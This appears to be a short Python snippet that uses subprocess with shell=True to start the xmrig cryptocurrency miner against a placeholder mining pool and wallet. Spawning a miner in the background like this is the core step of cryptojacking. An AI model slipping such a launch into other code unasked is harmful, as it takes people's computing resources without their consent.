import subprocess

subprocess.Popen("./xmrig -o stratum+tcp://pool.example.com:3333 -u wallet", shell=True)
